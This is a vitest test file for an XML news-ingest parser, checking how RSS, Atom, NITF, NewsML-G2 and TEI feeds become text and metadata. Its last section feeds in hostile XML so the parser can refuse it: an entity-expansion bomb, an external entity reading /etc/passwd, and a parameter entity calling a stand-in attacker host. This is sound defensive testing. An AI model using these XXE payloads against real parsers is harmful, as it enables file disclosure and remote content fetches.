import { describe, expect, it } from 'vitest';
import type { XmlLimits } from '../../../src/ingest/formats/xml.ts';
import { PAGE, STORY, sourcesOf } from './given.ts';

const P = STORY.split('\n\n');
const read = (text: string) => sourcesOf('application/xml', text);

describe('RSS', () => {
  const rss = `<?xml version="1.0"?><rss version="2.0" xmlns:content="c" xmlns:dc="d"><channel><title>Kestrel Bay News</title><language>en-gb</language>
    <item><title>Fish &amp;amp; chips</title><link>https://news.example/1</link><guid isPermaLink="false">17</guid>
      <dc:creator><![CDATA[Ada Brook]]></dc:creator><pubDate>Tue, 05 Mar 2024 18:30:00 GMT</pubDate>
      <description>Told shortly.</description>
      <content:encoded><![CDATA[<p>${P[0]}</p><p>${P[1]}</p>]]></content:encoded></item>
    <item><title>Only a summary</title><description>Told shortly.</description><author>desk@news.example (Tom Reed)</author></item>
  </channel></rss>`;

  it('reads each item, its content as a page', () => {
    const [first, second] = read(rss);
    expect(first).toMatchObject({
      text: PAGE,
      storyOnly: false,
      origin: { url: 'https://news.example/1', format: 'feed' },
      hints: {
        title: 'Fish & chips',
        authors: ['Ada Brook'],
        published: 'Tue, 05 Mar 2024 18:30:00 GMT',
        outlet: 'Kestrel Bay News',
        language: 'en',
      },
    });
    expect(second).toMatchObject({ text: '', hints: { subtitle: 'Told shortly.', authors: ['Tom Reed'] } });
    expect(first!.id).not.toBe(second!.id);
  });
});

describe('Atom', () => {
  it.each([
    ['html', `<content type="html">&lt;p&gt;${P[0]}&lt;/p&gt;&lt;p&gt;${P[1]}&lt;/p&gt;</content>`],
    ['xhtml', `<content type="xhtml"><div xmlns="x"><p>${P[0]}</p><p>${P[1]}</p></div></content>`],
  ])('reads content as %s', (_, content) => {
    const [source] =
      read(`<feed xmlns="a" xml:lang="en"><title>Kestrel Bay: World</title><entry><id>tag:1</id><title>Council meets</title>
      <link rel="self" href="https://news.example/self"/><link href="https://news.example/1"/>
      <published>2024-03-05T18:30:00Z</published><updated>2024-03-06T07:00:00Z</updated><author><name>Ada Brook</name></author>${content}</entry></feed>`);
    expect(source).toMatchObject({ text: PAGE, origin: { url: 'https://news.example/1' } });
    expect(source!.hints).toMatchObject({
      title: 'Council meets',
      authors: ['Ada Brook'],
      published: '2024-03-05T18:30:00Z',
      updated: '2024-03-06T07:00:00Z',
      language: 'en',
    });
  });
});

const NITF = `<nitf xml:lang="en"><head><title>Slug</title><docdata><doc-id id-string="tw-1"/><date.issue norm="20240305T183000-0500"/></docdata></head>
  <body><body.head><hedline><hl1>Council meets</hl1><hl2>Nothing decided</hl2></hedline><byline>By <person>Ada Brook</person><bytag>Harbour writer</bytag></byline>
  <distributor>Tradewind</distributor><dateline><location>KESTREL BAY, South Africa</location></dateline></body.head>
  <body.content><media><media-caption>The harbour.</media-caption></media><p>${P[0]}</p><p>${P[1]}</p></body.content></body></nitf>`;

describe('NITF', () => {
  it('reads the head, and the dateline before the story', () => {
    const [source] = read(NITF);
    expect(source).toMatchObject({
      text: `KESTREL BAY, South Africa — ${STORY}`,
      storyOnly: true,
      origin: { format: 'nitf' },
    });
    expect(source!.hints).toEqual({
      title: 'Council meets',
      subtitle: 'Nothing decided',
      authors: ['Ada Brook'],
      published: '2024-03-05T18:30:00-05:00',
      agency: 'Tradewind',
      language: 'en',
    });
  });
});

describe('NewsML-G2', () => {
  const item = (
    guid: string,
    content: string,
  ) => `<newsItem guid="${guid}" xml:lang="en"><itemMeta><provider><name>Tradewind</name></provider>
    <versionCreated>2024-03-05T19:00:00Z</versionCreated><firstCreated>2024-03-05T18:30:00Z</firstCreated></itemMeta>
    <contentMeta><by>Ada Brook</by><headline role="drol:sub">Nothing decided</headline><headline>Council meets</headline><language tag="en"/></contentMeta>
    <contentSet>${content}</contentSet></newsItem>`;
  const hints = {
    title: 'Council meets',
    subtitle: 'Nothing decided',
    authors: ['Ada Brook'],
    published: '2024-03-05T18:30:00Z',
    updated: '2024-03-05T19:00:00Z',
    agency: 'Tradewind',
    language: 'en',
  };

  it.each([
    [
      'XHTML',
      `<inlineXML><html><head><title>x</title></head><body><p>${P[0]}</p><p>${P[1]}</p></body></html></inlineXML>`,
      STORY,
    ],
    ['plain text', `<inlineData contenttype="text/plain">${STORY}</inlineData>`, STORY],
    ['NITF', `<inlineXML>${NITF}</inlineXML>`, `KESTREL BAY, South Africa — ${STORY}`],
  ])('reads content as %s', (_, content, text) => {
    const [source] = read(item('tag:1', content));
    expect(source).toMatchObject({ text, storyOnly: true, origin: { format: 'newsml' } });
    expect(source!.hints).toEqual(hints);
  });

  it('reads each item of a message', () => {
    const body = '<inlineData>Told.</inlineData>';
    expect(
      read(`<newsMessage><header/><itemSet>${item('a', body)}${item('b', body)}</itemSet></newsMessage>`),
    ).toHaveLength(2);
  });
});

describe('what extractors write', () => {
  const doc = (main: string) => read(`<doc title="Fish" url="https://news.example/1">${main}</doc>`)[0]!;

  it('is the story, without comments', () => {
    const { text, hints, origin } = doc(`<main><p>${P[0]}</p><p>${P[1]}</p></main><comments><p>First!</p></comments>`);
    expect(text).toBe(`${P[0]}\n\n${P[1]}`);
    expect(hints).toEqual({ title: 'Fish' });
    expect(origin.url).toBe('https://news.example/1');
  });

  it.each([
    ['a list', '<list><item>One</item><item>Two</item></list>', 'One\n\nTwo'],
    ['a line break', '<p>One<lb/>two</p>', 'One\ntwo'],
    ['marked words', '<p>One <hi rend="#b">and</hi> <ref target="x">two</ref>.</p>', 'One and two.'],
    ['a table', '<table><row><cell>1</cell><cell>2</cell></row></table>', '1 2'],
    ['a picture', '<graphic src="x.jpg" alt="x"/>', ''],
    ['nothing', '', ''],
  ])('keeps the paragraphs of %s', (_, main, text) => expect(doc(`<main>${main}</main>`).text).toBe(text));

  it.each([
    ['Kestrel Bay News (kestrel.example)', 'Kestrel Bay News'],
    ['kestrel.example', undefined],
    ['N/A', undefined],
  ])('takes the publisher %j of TEI for the outlet %j', (publisher, outlet) => {
    const header = `<teiHeader><fileDesc><publicationStmt><publisher>${publisher}</publisher></publicationStmt></fileDesc></teiHeader>`;
    const [source] = read(
      `<TEI xmlns="http://www.tei-c.org/ns/1.0">${header}<text><body><p>${P[0]}</p></body></text></TEI>`,
    );
    expect(source!.hints.outlet).toBe(outlet);
    expect(source!.text).toBe(P[0]);
  });
});

describe('XML that means harm or is none', () => {
  it.each([
    [
      'an entity bomb',
      '<!DOCTYPE rss [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><rss><channel/></rss>',
      /declares entities/,
    ],
    [
      'an outside entity',
      '<!DOCTYPE nitf [<!ENTITY x SYSTEM "file:///etc/passwd">]><nitf>&x;</nitf>',
      /declares entities/,
    ],
    [
      'a parameter entity',
      '<!DOCTYPE nitf [ <!ENTITY % x SYSTEM "http://evil.example/x"> %x; ]><nitf/>',
      /declares entities/,
    ],
    ['100,000 nested tags', `<rss>${'<a>'.repeat(100_000)}</rss>`, /nested deeper/],
    [
      'more elements than may be',
      `<rss>${'<a/>'.repeat(1_000_001)}</rss>`,
      /more than 1000000 elements, which is XML_ELEMENTS/,
    ],
    ['a <doc> that is not trafilatura’s', '<doc><field name="title">Fish</field></doc>', /not read: <doc>/],
    ['another kind', '<urlset><url/></urlset>', /a kind that is not read: <urlset>/],
    ['none at all', 'Just words.', /without an element/],
  ])('refuses %s', (_, text, reason) => {
    expect(() => read(text)).toThrow(reason);
  });

  it('holds to the limits of the settings', () => {
    const within = (xmlLimits: XmlLimits) => sourcesOf('application/xml', NITF, { xmlLimits });
    expect(within({ depth: 20, elements: 100 })).toHaveLength(1);
    expect(() => within({ depth: 2, elements: 100 })).toThrow('deeper than 2 elements, which is XML_DEPTH');
    expect(() => within({ depth: 20, elements: 3 })).toThrow('more than 3 elements, which is XML_ELEMENTS');
  });

  it('takes a DOCTYPE that declares nothing', () => {
    expect(read(`<!DOCTYPE nitf SYSTEM "nitf-3-5.dtd">${NITF}`)).toHaveLength(1);
  });
});
